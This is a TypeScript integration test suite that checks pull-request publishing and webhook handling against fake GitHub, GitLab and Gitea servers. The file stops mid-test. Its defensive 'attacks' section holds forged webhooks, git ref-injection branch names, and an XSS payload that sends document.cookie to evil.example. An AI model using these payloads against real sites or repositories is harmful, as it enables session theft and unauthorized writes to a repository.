import '../log-on';
import { execFileSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import fsp from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { POST as createProject } from '@/app/api/projects/route';
import { GET as getProject } from '@/app/api/projects/[id]/route';
import { PUT as putRemote } from '@/app/api/projects/[id]/remote/route';
import { PUT as putBuild } from '@/app/api/projects/[id]/build/route';
import { POST as createWorkspace } from '@/app/api/projects/[id]/workspaces/route';
import { GET as getWorkspace } from '@/app/api/projects/[id]/workspaces/[wid]/route';
import { POST as publishRoute } from '@/app/api/projects/[id]/workspaces/[wid]/publish/route';
import { GET as getBoard } from '@/app/api/projects/[id]/board/route';
import { POST as startStory } from '@/app/api/projects/[id]/board/stories/[key]/start/route';
import { GET as getRun } from '@/app/api/runs/[id]/route';
import { POST as hookRoute } from '@/app/api/forge/[projectId]/hook/route';
import { reply, type Reply } from '../scripted-model';
import { bmadProject } from '../bmad-installs';
import { commit, sh } from '../git-repo';
import { startGitServer, type GitServer } from '../git-server';
import { startFakeForge, type FakeForge } from '../forge-fakes';
import { params, startHarness, type Harness } from './harness';

/**
 * Pull requests through the real route handlers: projects cloned from a real git server (nginx,
 * git http-backend), their forges small stateful servers on loopback (GitHub's requests checked
 * against GitHub's published OpenAPI description; GitLab's and Gitea's against the endpoints their
 * documentation names). A story built by a run of the scripted model, published (its branch on the
 * git server, a pull request with the story's title), merged upstream (a real merge on the git
 * server) and learned by webhook or by polling → the story done and the sprint status pushed; a
 * forged webhook, a repeated one, a pull request closed without a merge; and the token nowhere.
 */
jest.setTimeout(300_000);

const ARTIFACTS = '_bmad-output/implementation-artifacts';
const STATUS_PATH = `${ARTIFACTS}/sprint-status.yaml`;
const SPRINT = `development_status:
  epic-1: in-progress
  1-1-login: ready-for-dev
  1-2-logout: ready-for-dev
  1-3-profile: ready-for-dev
`;
const STORY = (n: string, title: string) => `# Story ${n}: ${title}\n\nStatus: ready-for-dev\n\n## Acceptance Criteria\n\n1. It works.\n`;

let server: GitServer;
let github: FakeForge;
let gitlab: FakeForge;
let gitea: FakeForge;
let h: Harness;
let projectsRoot: string;
const TOKEN = `tok_${crypto.randomBytes(16).toString('hex')}`;
const SECRET = `whsec_${crypto.randomBytes(12).toString('hex')}`;
const tokens: Record<string, string> = {};
type Who = 'admin' | 'ed' | 'vic' | 'zed';

const answers: string[] = [];
const logLines: string[] = [];
const ps: string[] = [];
const writes = { out: process.stdout.write.bind(process.stdout), err: process.stderr.write.bind(process.stderr) };

const req = (method: string, url: string, who: Who, body?: unknown) =>
  new Request(`http://localhost${url}`, {
    method,
    headers: { authorization: `Bearer ${tokens[who]}`, ...(body !== undefined ? { 'content-type': 'application/json' } : {}) },
    ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
  });

async function answer(res: Response): Promise<{ status: number; body: any; text: string }> {
  const text = await res.text();
  answers.push(text);
  return { status: res.status, body: JSON.parse(text), text };
}

const project = (who: Who, id: string) => getProject(req('GET', `/api/projects/${id}`, who), params({ id })).then(answer);
const board = (who: Who, id = 'shop') => getBoard(req('GET', `/api/projects/${id}/board`, who), params({ id })).then(answer);
const workspace = (who: Who, wid: string, id = 'shop') => getWorkspace(req('GET', `/api/projects/${id}/workspaces/${wid}`, who), params({ id, wid })).then(answer);
const publish = (who: Who, wid: string, id = 'shop', body?: unknown) => publishRoute(req('POST', `/api/projects/${id}/workspaces/${wid}/publish`, who, body), params({ id, wid })).then(answer);
const start = (who: Who, key: string, id = 'shop') => startStory(req('POST', `/api/projects/${id}/board/stories/${key}/start`, who, { skill: 'bmad-build-auto' }), params({ id, key })).then(answer);
const runOf = (who: Who, rid: string) => getRun(req('GET', `/api/runs/${rid}`, who), params({ id: rid })).then(answer);
const deliver = (projectId: string, hook: { headers: Record<string, string>; body: string }) =>
  hookRoute(new Request(`http://localhost/api/forge/${projectId}/hook`, { method: 'POST', headers: hook.headers, body: hook.body }), params({ projectId })).then(answer);

const statusIn = (text: string, key: string) => new RegExp(`^  ${key}: ([a-z-]+)`, 'm').exec(text)?.[1];
const remoteFile = (repo: string, file: string, branch = 'main') => sh(server.repoPath(repo), ['show', `${branch}:${file}`]);
const storyOnBoard = async (key: string, id = 'shop') => (await board('vic', id)).body.data.epics.flatMap((e: { stories: unknown[] }) => e.stories).find((s: { key: string }) => s.key === key);

async function until<T>(read: () => Promise<T>, ok: (v: T) => boolean, ms = 60_000): Promise<T> {
  const end = Date.now() + ms;
  for (;;) {
    const v = await read();
    if (ok(v) || Date.now() > end) return v;
    await new Promise((r) => setTimeout(r, 100));
  }
}

function filesHolding(dir: string, needle: string): string[] {
  try {
    return execFileSync('grep', ['-rlF', '--', needle, dir], { encoding: 'utf8' }).split('\n').filter(Boolean);
  } catch (e) {
    if ((e as { status?: number }).status === 1) return [];
    throw e;
  }
}

function textOf(content: unknown): string {
  if (typeof content === 'string') return content;
  if (Array.isArray(content)) return content.map((p) => (p && typeof p === 'object' && 'text' in p ? String((p as { text: unknown }).text) : '')).join('');
  return '';
}

/**
 * The build run the model makes of a story: the code and its test written, the test run with
 * run_command (exit code 0), the spec saved in review.
 */
function builder({ body }: { body: any }): Reply {
  const first = (body.messages ?? []).find((m: any) => m.role === 'user' && /Story: \d+-\d+-/.test(textOf(m.content)));
  const key = first ? /Story: (\d+-\d+-[a-z0-9-]+)/.exec(textOf(first.content))![1]! : null;
  if (!key) return reply.text('HALT: no story in the first message');
  const made = (body.messages ?? []).flatMap((m: any) => (m.tool_calls ?? []).map((c: any) => c.function?.name));
  if (!made.includes('save_output')) {
    return reply.toolCalls([
      { name: 'save_output', arguments: { file_path: `{project-root}/src/${key}.txt`, content: `${key} works\n` } },
      { name: 'save_output', arguments: { file_path: `{project-root}/tests/${key}.test.sh`, content: `grep -q works src/${key}.txt && echo "1 test passed"\n` } },
    ]);
  }
  if (!made.includes('run_command')) return reply.toolCalls([{ name: 'run_command', arguments: { command: `sh tests/${key}.test.sh` } }]);
  if (made.filter((n: string) => n === 'save_output').length < 3) {
    const number = key.split('-').slice(0, 2).join('-');
    return reply.toolCalls([{ name: 'save_output', arguments: { file_path: `{project-root}/${ARTIFACTS}/spec-${number}-${key.split('-').slice(2).join('-')}.md`, content: `---\nstatus: review\n---\n\n# ${key}\n` } }]);
  }
  return reply.text(`Story ${key} is built; its spec is in review.`);
}

/** Builds a story with the scripted model: its run complete, its workspace's id. */
async function build(key: string, id = 'shop'): Promise<string> {
  const s = await start('ed', key, id);
  expect(s.status).toBe(202);
  const r = await until(() => runOf('ed', s.body.data.runId), (x) => !['queued', 'running'].includes(x.body.data.status), 120_000);
  expect(r.body.data).toMatchObject({ status: 'complete', result: { storyStatus: 'review' } });
  return s.body.data.workspace.id;
}

async function cloneProject(id: string, repo: string, forge: FakeForge): Promise<void> {
  const started = await createProject(req('POST', '/api/projects', 'admin', { id, git: { url: server.repoUrl(repo), token: TOKEN, username: server.user, forge: forge.kind, apiUrl: forge.apiUrl } })).then(answer);
  expect(started.status).toBe(202);
  const done = await until(() => project('admin', id), (a) => a.body.data?.clone?.status !== 'running', 120_000);
  expect(done.body.data.clone).toMatchObject({ status: 'ready' });
  const people = (globalThis as unknown as { __people: Record<'ed' | 'vic', { id: string }> }).__people;
  await h.runtime.accounts!.setMember(id, people.ed.id, 'editor');
  await h.runtime.accounts!.setMember(id, people.vic.id, 'viewer');
  const set = await putRemote(req('PUT', `/api/projects/${id}/remote`, 'admin', { webhookSecret: SECRET }), params({ id })).then(answer);
  expect(set.body.data).toMatchObject({ forge: forge.kind, apiUrl: forge.apiUrl, webhookSecretSet: true, mode: 'pull-request' });
  expect((await putBuild(req('PUT', `/api/projects/${id}/build`, 'admin', { enabled: true }), params({ id })).then(answer)).status).toBe(200);
}

beforeAll(async () => {
  server = await startGitServer({ user: 'bmad-test', token: TOKEN });
  const seed = await fsp.mkdtemp(path.join(os.tmpdir(), 'bmad-forge-seed-'));
  const shop = await bmadProject('6.12.0', { parent: seed, name: 'shop' });
  const files = {
    [STATUS_PATH]: SPRINT,
    [`${ARTIFACTS}/1-1-login.md`]: STORY('1.1', 'Log in'),
    [`${ARTIFACTS}/1-2-logout.md`]: STORY('1.2', 'Log out'),
    [`${ARTIFACTS}/1-3-profile.md`]: STORY('1.3', 'Profile page'),
    'src/app.txt': 'one\n',
  };
  server.createRepository('team/shop', files, { from: shop });
  server.createRepository('team/lab', { 'README.md': '# lab\n' }, { from: shop });
  server.createRepository('team/tea', { 'README.md': '# tea\n' }, { from: shop });
  await fsp.rm(seed, { recursive: true, force: true });
  github = await startFakeForge({ kind: 'github', token: TOKEN, repository: 'team/shop', bare: server.repoPath('team/shop') });
  gitlab = await startFakeForge({ kind: 'gitlab', token: TOKEN, repository: 'team/lab', bare: server.repoPath('team/lab') });
  gitea = await startFakeForge({ kind: 'gitea', token: TOKEN, repository: 'team/tea', bare: server.repoPath('team/tea') });
  projectsRoot = await fsp.mkdtemp(path.join(os.tmpdir(), 'bmad-forge-projects-'));
  h = await startHarness(
    {
      PROJECTS_ROOT: projectsRoot,
      SECRETS_KEY: crypto.randomBytes(32).toString('hex'),
      GIT_REMOTE_HOSTS: [server.hostPort, github.hostPort, gitlab.hostPort, gitea.hostPort].join(','),
      FORGE_POLL_SECONDS: '1',
    },
    { store: 'sqlite', auth: {} },
  );
  const accounts = h.runtime.accounts!;
  const admin = await accounts.createFirstAdmin({ email: 'admin@example.com', name: 'Admin', password: 'admin-password-1' });
  const person = (name: string) => accounts.createPerson({ email: `${name}@example.com`, name: name[0]!.toUpperCase() + name.slice(1), password: `${name}-password-1`, role: 'member' });
  const [ed, vic, zed] = [await person('ed'), await person('vic'), await person('zed')];
  tokens.admin = (await accounts.createToken(admin.id, { name: 't' })).token;
  tokens.ed = (await accounts.createToken(ed.id, { name: 't' })).token;
  tokens.vic = (await accounts.createToken(vic.id, { name: 't' })).token;
  tokens.zed = (await accounts.createToken(zed.id, { name: 't' })).token;
  (globalThis as { __people?: unknown }).__people = { ed, vic };
  const keep = (chunk: unknown) => {
    logLines.push(String(chunk));
    return true;
  };
  process.stdout.write = keep as typeof process.stdout.write;
  process.stderr.write = keep as typeof process.stderr.write;
  await cloneProject('shop', 'team/shop', github);
  h.model.setScript(builder);
}, 280_000);

afterAll(async () => {
  process.stdout.write = writes.out;
  process.stderr.write = writes.err;
  await h?.close();
  await Promise.all([server?.stop(), github?.stop(), gitlab?.stop(), gitea?.stop()]);
  if (projectsRoot) await fsp.rm(projectsRoot, { recursive: true, force: true });
});

let loginWs = '';

describe('GitHub', () => {
  it('publishes a built story: its branch on the remote, a pull request titled after the story naming its file, commits and tests; again: the same one updated', async () => {
    loginWs = await build('1-1-login');
    expect((await storyOnBoard('1-1-login')).status).toBe('review');
    expect((await board('vic')).body.data.pullRequests).toEqual({ forge: 'github' });
    // Viewers may not publish; who cannot see the project gets a 404.
    expect((await publish('vic', loginWs)).status).toBe(403);
    expect((await publish('zed', loginWs)).status).toBe(404);
    const watch = setInterval(() => ps.push(...execFileSync('ps', ['-eww', '-o', 'args='], { encoding: 'utf8' }).split('\n').filter((l) => l.includes('git'))), 50);
    const p = await publish('ed', loginWs);
    clearInterval(watch);
    expect(p.status).toBe(200);
    expect(p.body.data).toMatchObject({ branch: 'bmad/1-1-login', pullRequest: { number: 1, state: 'open', url: `http://127.0.0.1:${github.port}/team/shop/pull/1` } });
    const top = path.join(projectsRoot, 'shop');
    const head = sh(top, ['rev-parse', 'bmad/1-1-login']).trim();
    expect(sh(server.repoPath('team/shop'), ['rev-parse', 'bmad/1-1-login']).trim()).toBe(head);
    const pr = github.pulls[0]!;
    expect(pr).toMatchObject({ head: 'bmad/1-1-login', base: 'main', title: '1-1-login: Log in', state: 'open' });
    expect(pr.body).toContain(`${ARTIFACTS}/1-1-login.md`);
    expect(pr.body).toContain('`sh tests/1-1-login.test.sh` | 0 |');
    const subjects = sh(top, ['log', '--format=%s', 'main..bmad/1-1-login']).trim().split('\n');
    expect(subjects.length).toBeGreaterThan(0);
    for (const s of subjects) expect(pr.body).toContain(s);
    expect(github.requests.map((r) => r.operation)).toEqual(expect.arrayContaining(['pulls/list', 'pulls/create']));
    // The board's card links it.
    expect((await storyOnBoard('1-1-login')).pullRequest).toMatchObject({ number: 1, state: 'open', url: pr.body ? `http://127.0.0.1:${github.port}/team/shop/pull/1` : '' });

    // More work, published again: the branch moves on the remote (leased), the same pull request updated.
    const row = (await h.runtime.workspaces.store.get(loginWs))!;
    commit(h.runtime.workspaces.checkoutPath(row), { 'src/1-1-login.txt': '1-1-login works, and better\n' }, 'Polish the login');
    const again = await publish('ed', loginWs);
    expect(again.status).toBe(200);
    expect(again.body.data.pullRequest.number).toBe(1);
    expect(github.pulls).toHaveLength(1);
    expect(github.pulls[0]!.body).toContain('Polish the login');
    expect(sh(server.repoPath('team/shop'), ['rev-parse', 'bmad/1-1-login']).trim()).toBe(sh(top, ['rev-parse', 'bmad/1-1-login']).trim());
    expect(github.requests.map((r) => r.operation)).toContain('pulls/update');
    expect(github.problems).toEqual([]);
  });

  it('a forged or unsigned webhook is 401 and changes nothing; an unknown project is 404', async () => {
    github.merge(1);
    const before = remoteFile('team/shop', STATUS_PATH);
    const forged = await deliver('shop', github.pullRequestHook(1, 'not-the-secret'));
    expect([forged.status, forged.body.code]).toEqual([401, 'E_UNAUTHENTICATED']);
    const hook = github.pullRequestHook(1, SECRET);
    const unsigned = await deliver('shop', { headers: Object.fromEntries(Object.entries(hook.headers).filter(([k]) => k !== 'x-hub-signature-256')), body: hook.body });
    expect(unsigned.status).toBe(401);
    // The signature of another body.
    const tampered = await deliver('shop', { headers: hook.headers, body: hook.body.replace('"merged":true', '"merged":false') });
    expect(tampered.status).toBe(401);
    expect((await deliver('nope', hook)).status).toBe(404);
    expect(remoteFile('team/shop', STATUS_PATH)).toBe(before);
    expect((await h.runtime.forges.store.get(loginWs))!.state).toBe('open');
    expect((await workspace('vic', loginWs)).body.data.status).toBe('open');
    expect((await storyOnBoard('1-1-login')).status).toBe('review');
  });

  it('merged upstream, told by webhook: the workspace merged, the story done and pushed; the same delivery again changes nothing', async () => {
    const headSha = github.pulls[0]!.mergeSha!;
    const hook = github.pullRequestHook(1, SECRET);
    const a = await deliver('shop', hook);
    expect(a.status).toBe(200);
    expect(a.body.data).toMatchObject({ duplicate: false, event: 'pull-request', changed: true });
    expect(statusIn(remoteFile('team/shop', STATUS_PATH), '1-1-login')).toBe('done');
    expect((await workspace('vic', loginWs)).body.data).toMatchObject({ status: 'merged', mergedCommit: headSha, mergedBy: 'GitHub' });
    const story = await storyOnBoard('1-1-login');
    expect(story).toMatchObject({ status: 'done', workspace: { status: 'merged' }, pullRequest: { number: 1, state: 'merged' } });
    const doneCommits = () => server.log('team/shop').filter((l) => l.includes('Sprint: 1-1-login → done')).length;
    expect(doneCommits()).toBe(1);
    const again = await deliver('shop', hook);
    expect(again.body.data).toEqual({ duplicate: true });
    // A new delivery of the same news (another id) changes nothing either.
    const news = await deliver('shop', github.pullRequestHook(1, SECRET));
    expect(news.body.data).toMatchObject({ duplicate: false, changed: false });
    expect(doneCommits()).toBe(1);
  });

  it('merged upstream with no webhook: polling (conditional requests) finds it; checks shown on the card', async () => {
    const wid = await build('1-2-logout');
    const p = await publish('ed', wid);
    expect(p.body.data.pullRequest).toMatchObject({ number: 2, state: 'open' });
    const head = sh(path.join(projectsRoot, 'shop'), ['rev-parse', 'bmad/1-2-logout']).trim();
    github.checks.set(head, [{ name: 'ci / test', state: 'success' }, { name: 'lint', state: 'pending' }]);
    h.runtime.forges.start();
    // Unchanged pull requests answer 304 to the poller's If-None-Match.
    await until(async () => github.requests.filter((r) => r.path.endsWith('/pulls/2') && r.status === 304).length, (n) => n >= 1, 30_000);
    expect(github.requests.filter((r) => r.path.endsWith('/pulls/2') && r.status === 304).length).toBeGreaterThan(0);
    const card = await until(() => storyOnBoard('1-2-logout'), (s) => s.pullRequest?.checks?.checks?.length === 2, 30_000);
    expect(card.pullRequest.checks).toMatchObject({ state: 'pending', checks: [{ name: 'ci / test', state: 'success' }, { name: 'lint', state: 'pending' }] });
    github.merge(2);
    const done = await until(() => storyOnBoard('1-2-logout'), (s) => s.status === 'done', 30_000);
    expect(done).toMatchObject({ status: 'done', workspace: { status: 'merged' }, pullRequest: { state: 'merged' } });
    expect(statusIn(remoteFile('team/shop', STATUS_PATH), '1-2-logout')).toBe('done');
    await h.runtime.forges.stop();
    expect(github.problems).toEqual([]);
  });

  it('closed without a merge: the workspace closed, the story back in review with a note; told twice, changed once', async () => {
    const wid = await build('1-3-profile');
    await move('1-3-profile', 'done');
    const p = await publish('ed', wid, 'shop', { draft: true });
    expect(p.body.data.pullRequest).toMatchObject({ number: 3, state: 'open', draft: true });
    expect(github.pulls[2]!.draft).toBe(true);
    github.close(3);
    const hook = github.pullRequestHook(3, SECRET);
    expect((await deliver('shop', hook)).body.data).toMatchObject({ changed: true });
    const card = await storyOnBoard('1-3-profile');
    expect(card).toMatchObject({ status: 'review', workspace: { status: 'closed' }, pullRequest: { state: 'closed' } });
    expect(card.pullRequest.note).toMatch(/closed on GitHub without a merge/);
    expect(statusIn(remoteFile('team/shop', STATUS_PATH), '1-3-profile')).toBe('review');
    const reviews = () => server.log('team/shop').filter((l) => l.includes('Sprint: 1-3-profile → review')).length;
    const n = reviews();
    expect((await deliver('shop', hook)).body.data).toEqual({ duplicate: true });
    expect((await deliver('shop', github.pullRequestHook(3, SECRET))).body.data.changed).toBe(false);
    expect(reviews()).toBe(n);
    // A closed workspace is not published again.
    expect((await publish('ed', wid)).status).toBe(409);
  });
});

async function move(key: string, status: string): Promise<void> {
  const { PATCH } = await import('@/app/api/projects/[id]/board/stories/[key]/route');
  const r = await PATCH(req('PATCH', `/api/projects/shop/board/stories/${key}`, 'ed', { status }), params({ id: 'shop', key })).then(answer);
  expect(r.status).toBe(200);
}

describe.each([
  ['GitLab', 'lab', 'team/lab', () => gitlab],
  ['Gitea', 'tea', 'team/tea', () => gitea],
] as const)('%s', (name, id, repo, forge) => {
  it(`publishes a workspace as a ${name === 'GitLab' ? 'merge' : 'pull'} request, shows its checks, and learns its merge by webhook`, async () => {
    await cloneProject(id, repo, forge());
    const ws = await createWorkspace(req('POST', `/api/projects/${id}/workspaces`, 'ed', { name: 'feature' }), params({ id })).then(answer);
    expect(ws.status).toBe(201);
    const row = (await h.runtime.workspaces.store.get(ws.body.data.id))!;
    commit(h.runtime.workspaces.checkoutPath(row), { 'src/feature.txt': 'feature\n' }, 'Add the feature');
    const p = await publish('ed', row.id, id, { draft: true });
    expect(p.status).toBe(200);
    expect(p.body.data).toMatchObject({ branch: 'bmad/feature', pullRequest: { number: 1, state: 'open', draft: true } });
    const drafted = name === 'GitLab' ? 'Draft: feature' : 'WIP: feature';
    expect(forge().pulls[0]).toMatchObject({ head: 'bmad/feature', base: 'main', title: drafted, state: 'open' });
    expect(forge().pulls[0]!.body).toContain('Add the feature');
    const head = sh(path.join(projectsRoot, id), ['rev-parse', 'bmad/feature']).trim();
    expect(sh(server.repoPath(repo), ['rev-parse', 'bmad/feature']).trim()).toBe(head);
    forge().checks.set(head, [{ name: 'build', state: name === 'GitLab' ? 'failed' : 'failure' }]);
    expect((await deliver(id, forge().checksHook(head, SECRET))).status).toBe(200);
    expect((await h.runtime.forges.store.get(row.id))!.checks).toMatchObject({ state: 'failure' });
    // Publishing again updates the same one.
    expect((await publish('ed', row.id, id)).body.data.pullRequest.number).toBe(1);
    expect(forge().pulls).toHaveLength(1);
    // Still a draft: publishing again does not take it out of draft.
    expect(forge().pulls[0]!.title).toBe(drafted);
    // A forged delivery is refused; the signed one merges the workspace.
    forge().merge(1);
    expect((await deliver(id, forge().pullRequestHook(1, 'wrong'))).status).toBe(401);
    const a = await deliver(id, forge().pullRequestHook(1, SECRET));
    expect(a.body.data).toMatchObject({ changed: true });
    expect((await workspace('vic', row.id, id)).body.data).toMatchObject({ status: 'merged', mergedBy: name });
    expect(forge().problems).toEqual([]);
  });
});

describe('attacks', () => {
  const wsRoute = () => import('@/app/api/projects/[id]/workspaces/[wid]/route');
  const newWorkspace = async (name: string, id = 'shop') => {
    const ws = await createWorkspace(req('POST', `/api/projects/${id}/workspaces`, 'ed', { name }), params({ id })).then(answer);
    expect(ws.status).toBe(201);
    const row = (await h.runtime.workspaces.store.get(ws.body.data.id))!;
    commit(h.runtime.workspaces.checkoutPath(row), { [`src/${name}.txt`]: `${name}\n` }, `Work on ${name}`);
    return row;
  };
  /** A delivery as GitHub signs it, of a body the test chose. */
  const signed = (event: string, payload: unknown, secret = SECRET) => {
    const body = JSON.stringify(payload);
    return { headers: { 'content-type': 'application/json', 'x-github-event': event, 'x-github-delivery': crypto.randomUUID(), 'x-hub-signature-256': `sha256=${crypto.createHmac('sha256', secret).update(body).digest('hex')}` }, body };
  };

  it('publish: no account 401, a workspace of another project or none 404, a discarded one 409; nothing pushed', async () => {
    const anon = await publishRoute(new Request('http://localhost/api/projects/shop/workspaces/x/publish', { method: 'POST' }), params({ id: 'shop', wid: 'x' })).then(answer);
    expect(anon.status).toBe(401);
    const lab = await newWorkspace('elsewhere', 'lab');
    expect((await publish('ed', lab.id, 'shop')).status).toBe(404);
    expect((await publish('ed', 'no-such-workspace', 'shop')).status).toBe(404);
    expect((await publish('zed', lab.id, 'lab')).status).toBe(404);
    expect((await publish('vic', lab.id, 'lab')).status).toBe(403);
    const gone = await newWorkspace('gone');
    const { DELETE } = await wsRoute();
    expect((await DELETE(req('DELETE', `/api/projects/shop/workspaces/${gone.id}`, 'ed'), params({ id: 'shop', wid: gone.id })).then(answer)).status).toBe(200);
    expect((await publish('ed', gone.id)).status).toBe(409);
    const branches = (repo: string) => sh(server.repoPath(repo), ['for-each-ref', '--format=%(refname)', 'refs/heads/']).trim().split('\n');
    expect(branches('team/shop')).not.toContain('refs/heads/bmad/gone');
    expect(branches('team/lab')).not.toContain('refs/heads/bmad/elsewhere');
  });

  it('publish pushes only bmad/<name>: names that would push another ref are refused before git runs; main untouched', async () => {
    const main = sh(server.repoPath('team/shop'), ['rev-parse', 'main']).trim();
    for (const name of ['x:refs/heads/main', '-x', '--force', 'a b', '../main', 'x..y']) {
      const ws = await createWorkspace(req('POST', '/api/projects/shop/workspaces', 'ed', { name }), params({ id: 'shop' })).then(answer);
      expect([name, ws.status]).toEqual([name, 400]);
    }
    const ref = { id: 'shop', root: path.join(projectsRoot, 'shop') };
    for (const branch of ['bmad/x:refs/heads/main', '+bmad/x', 'main', 'refs/heads/main', 'bmad/../main', '--force', 'bmad/x lock', 'bmad/-x:main', 'bmad/sprint-status', 'bmad/x.lock']) {
      await expect(h.runtime.remotes.pushWorkspaceBranch(ref, branch, null)).rejects.toMatchObject({ code: 'E_VALIDATION' });
    }
    expect(sh(server.repoPath('team/shop'), ['rev-parse', 'main']).trim()).toBe(main);
  });

  it('publish again after a teammate moved the branch on the remote: refused (lease), the teammate’s commit kept', async () => {
    const row = await newWorkspace('leased');
    expect((await publish('ed', row.id)).status).toBe(200);
    const theirs = server.pushAsTeammate('team/shop', { 'src/theirs.txt': 'theirs\n' }, { branch: 'bmad/leased', message: 'A teammate’s fix' });
    commit(h.runtime.workspaces.checkoutPath(row), { 'src/leased.txt': 'mine, later\n' }, 'More of mine');
    const again = await publish('ed', row.id);
    expect([again.status, again.body.code]).toEqual([409, 'E_REMOTE_REJECTED']);
    expect(sh(server.repoPath('team/shop'), ['rev-parse', 'bmad/leased']).trim()).toBe(theirs);
  });

  it('webhook: a signed delivery about another repository’s #n, or another branch, changes nothing; the right one does', async () => {
    const row = await newWorkspace('hooked');
    const p = await publish('ed', row.id);
    const n = p.body.data.pullRequest.number as number;
    github.close(n);
    const other = await deliver('shop', github.pullRequestHook(n, SECRET, { repository: 'team/other-app' }));
    const branch = await deliver('shop', github.pullRequestHook(n, SECRET, { head: 'bmad/someone-else' }));
    const { repository: _r, ...unnamed } = JSON.parse(github.pullRequestHook(n, SECRET).body);
    const nameless = await deliver('shop', signed('pull_request', unnamed));
    for (const a of [other, branch, nameless]) expect([a.status, a.body.data.changed]).toEqual([200, false]);
    expect((await h.runtime.forges.store.get(row.id))!.state).toBe('open');
    expect((await workspace('vic', row.id)).body.data.status).toBe('open');
    const ours = await deliver('shop', github.pullRequestHook(n, SECRET));
    expect(ours.body.data.changed).toBe(true);
    expect((await workspace('vic', row.id)).body.data.status).toBe('closed');
  });

  it('webhook: an old delivery sent again under a new id does not undo what the forge says now', async () => {
    const row = await newWorkspace('replayed');
    const n = (await publish('ed', row.id)).body.data.pullRequest.number as number;
    github.close(n);
    const closed = github.pullRequestHook(n, SECRET);
    expect((await deliver('shop', closed)).body.data.changed).toBe(true);
    expect((await workspace('vic', row.id)).body.data.status).toBe('closed');
    // Reopened upstream, and told so.
    Object.assign(github.pulls.find((x) => x.number === n)!, { state: 'open', updatedAt: new Date().toISOString() });
    expect((await deliver('shop', github.pullRequestHook(n, SECRET))).body.data.changed).toBe(true);
    expect((await workspace('vic', row.id)).body.data.status).toBe('open');
    // The "closed" delivery again: GitHub's signature covers the body, not the delivery id.
    const replay = await deliver('shop', { headers: { ...closed.headers, 'x-github-delivery': crypto.randomUUID() }, body: closed.body });
    expect([replay.status, replay.body.data.duplicate, replay.body.data.changed]).toEqual([200, false, false]);
    expect((await workspace('vic', row.id)).body.data.status).toBe('open');
    expect((await h.runtime.forges.store.get(row.id))!.state).toBe('open');
  });

  it('webhook: a javascript: link from a signed delivery or a stored row never reaches the board', async () => {
    const row = await newWorkspace('linked');
    const n = (await publish('ed', row.id)).body.data.pullRequest.number as number;
    const hook = JSON.parse(github.pullRequestHook(n, SECRET).body);
    hook.pull_request.html_url = 'javascript:fetch("//evil.example/"+document.cookie)';
    expect((await deliver('shop', signed('pull_request', hook))).status).toBe(200);
    const card = async () => (await board('vic')).body.data.epics.flatMap((e: { stories: { workspace?: { id: string }; pullRequest?: { url: string } }[] }) => e.stories);
    expect((await h.runtime.forges.store.get(row.id))!.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/team\/shop\/pull\//);
    await h.runtime.forges.store.update(row.id, { url: 'javascript:alert(1)', checks: { state: 'success', checks: [{ name: 'ci', state: 'success', url: 'data:text/html,<script>alert(1)</script>' }] } });
    const views = [...(await (await import('@/lib/services/forges')).pullRequestsOf('shop')).values()];
    expect(views.length).toBeGreaterThan(0);
    expect(views.filter((v) => !/^(https?:\/\/|$)/.test(v.url) || v.checks?.checks.some((c) => c.url && !/^https?:\/\//.test(c.url)))).toEqual([]);
    expect(JSON.stringify(await card())).not.toMatch(/javascript:|data:text/);
  });

  it('webhook: no secret set is 401; a body over the bound is 413 before any check; a form-encoded one is 400; none changes anything', async () => {
    const row = await newWorkspace('bounded');
    const n = (await publish('ed', row.id)).body.data.pullRequest.number as number;
    github.merge(n);
    const hook = github.pullRequestHook(n, SECRET);
    expect((await putRemote(req('PUT', '/api/projects/shop/remote', 'admin', { webhookSecret: null }), params({ id: 'shop' })).then(answer)).status).toBe(200);
    const unsecured = await deliver('shop', hook);
    // Signed with an empty key: what a server comparing against "no secret" would take.
    const empty = await deliver('shop', signed('pull_request', JSON.parse(hook.body), ''));
    expect((await putRemote(req('PUT', '/api/projects/shop/remote', 'admin', { webhookSecret: SECRET }), params({ id: 'shop' })).then(answer)).status).toBe(200);
    expect([unsecured.status, empty.status]).toEqual([401, 401]);
    const huge = JSON.stringify({ ...JSON.parse(hook.body), pad: 'x'.repeat(6 * 1024 * 1024) });
    const tooLarge = await deliver('shop', { headers: { ...hook.headers, 'x-hub-signature-256': `sha256=${crypto.createHmac('sha256', SECRET).update(huge).digest('hex')}` }, body: huge });
    expect(tooLarge.status).toBe(413);
    // A project that takes no deliveries does not read the body at all.
    expect((await deliver('nope', { headers: hook.headers, body: huge })).status).toBe(404);
    const form = `payload=${encodeURIComponent(hook.body)}`;
    const formed = await deliver('shop', { headers: { ...hook.headers, 'content-type': 'application/x-www-form-urlencoded', 'x-hub-signature-256': `sha256=${crypto.createHmac('sha256', SECRET).update(form).digest('hex')}` }, body: form });
    expect(formed.status).toBe(400);
    expect((await h.runtime.forges.store.get(row.id))!.state).toBe('open');
    expect((await workspace('vic', row.id)).body.data.status).toBe('open');
    // The same delivery, once the forge sends it as JSON, is acted on (its id was not used up).
    expect((await deliver('shop', hook)).body.data.changed).toBe(true);
  });

  it('a token kept across a change of host must be given again: an owner cannot send the admin’s token elsewhere', async () => {
    const before = (await h.runtime.remotes.get('tea'))!;
    const moved = await putRemote(req('PUT', '/api/projects/tea/remote', 'admin', { apiUrl: github.apiUrl }), params({ id: 'tea' })).then(answer);
    expect([moved.status, moved.body.code, moved.body.field]).toEqual([400, 'E_VALIDATION', 'token']);
    const movedUrl = await putRemote(req('PUT', '/api/projects/tea/remote', 'admin', { url: `http://${github.hostPort}/team/tea.git` }), params({ id: 'tea' })).then(answer);
    expect(movedUrl.status).toBe(400);
    expect((await h.runtime.remotes.get('tea'))!).toMatchObject({ url: before.url, apiUrl: before.apiUrl, token: before.token });
    // Given again, or removed, the change is taken.
    expect((await putRemote(req('PUT', '/api/projects/tea/remote', 'admin', { apiUrl: github.apiUrl, token: null }), params({ id: 'tea' })).then(answer)).body.data).toMatchObject({ apiUrl: github.apiUrl, tokenSet: false });
    expect((await putRemote(req('PUT', '/api/projects/tea/remote', 'admin', { apiUrl: gitea.apiUrl, token: TOKEN }), params({ id: 'tea' })).then(answer)).body.data).toMatchObject({ apiUrl: gitea.apiUrl, tokenSet: true });
    // The same hosts: kept without being given again.
